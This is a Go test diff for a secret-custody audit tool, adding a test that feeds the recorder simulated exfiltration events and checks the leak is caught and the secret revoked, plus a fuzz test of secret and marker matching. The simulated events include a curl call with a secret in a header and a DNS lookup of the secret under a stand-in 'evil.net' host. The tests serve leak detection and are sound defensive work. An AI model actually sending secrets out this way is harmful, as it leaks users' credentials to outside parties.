@@ -10,6 +10,7 @@ import (
 	"time"
 
 	"github.com/custody-project/custody/audit"
+	"github.com/custody-project/custody/redact"
 )
 
 func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
@@ -223,6 +224,68 @@ func TestKnownLate(t *testing.T) {
 		f := w.log.findings()
 		if len(f) != 1 || f[0].Rule != "secret-known-late" || f[0].Seq != 2 || f[0].Secret != "git" {
 			t.Errorf("findings %+v", f)
+		}
+	})
+}
+
+// The recorder calls Saw from within Record, with what it masked.
+func TestRecorderHook(t *testing.T) {
+	inWorld(t, nil, func(w *world) {
+		l := w.deliver("s", "git", "npm")
+		rec := audit.NewRecorder(w.log, w.red)
+		put := func(ev audit.Event) uint64 {
+			ev.Observer, ev.Step = audit.Guest, "s"
+			seq, err := rec.Record(w.t.Context(), ev)
+			if err != nil {
+				t.Fatal(err)
+			}
+			return seq
+		}
+		put(audit.Event{Kind: audit.KindExec, Exec: &audit.Exec{Argv: []audit.Text{"curl", "-H", "x: the-value-of-git"}}})
+		put(audit.Event{Kind: audit.KindFile, File: &audit.File{Op: audit.FileWrite, Path: "/tmp/the-value-of-npm"}})
+		put(audit.Event{Kind: audit.KindOutput, Output: &audit.Output{Stream: "stdout", Text: "nothing to see"}})
+		if l.Err() != nil {
+			t.Fatal(l.Err())
+		}
+		seq := put(audit.Event{Kind: audit.KindDNS, DNS: &audit.DNS{Name: "the-value-of-git.evil.net"}})
+		if !Anomalous(l.Err()) {
+			t.Error("not revoked")
+		}
+		synctest.Wait()
+		if f := w.log.findings(); len(f) != 1 || f[0].Secret != "git" || f[0].Seq != seq {
+			t.Errorf("findings %+v", f)
+		}
+	})
+}
+
+// FuzzFind: whatever stands beside a value or a placeholder, markers and pieces of them too, it is found; and markers
+// alone are not.
+func FuzzFind(f *testing.F) {
+	red := redact.New([]byte("a key"))
+	i := NewIssuer(Config{Run: "r", Redactor: red})
+	if err := i.learn(f.Context(), "s", map[string][]byte{"git": []byte("the-value-of-git")}); err != nil {
+		f.Fatal(err)
+	}
+	place, err := i.placeholders.make("api")
+	if err != nil {
+		f.Fatal(err)
+	}
+	marker := string(i.markers[0])
+	f.Add("x", "y")
+	f.Add(marker, marker)
+	f.Add("[REDACTED:git:", marker[1:])
+	f.Add(marker+"the-value-of", "-git"+marker)
+	f.Add("custody-api-", "the-value-of-gi")
+	f.Fuzz(func(t *testing.T, before, after string) {
+		if got := i.Find([]byte(before + "the-value-of-git" + after)); !slices.Contains(got, "git") {
+			t.Errorf("value: %q", got)
+		}
+		if got := i.Find([]byte(before + place + after)); !slices.Contains(got, "api") {
+			t.Errorf("placeholder: %q", got)
+		}
+		if got := i.Find([]byte(before + marker + after)); len(got) > 0 && len(red.Find([]byte(before))) == 0 && len(red.Find([]byte(after))) == 0 &&
+			len(red.Find([]byte(before+"\x00"+after))) == 0 && !strings.Contains(before+after, "custody-api-") {
+			t.Errorf("a marker is taken for its value: %q in %q", got, before+marker+after)
 		}
 	})
 }
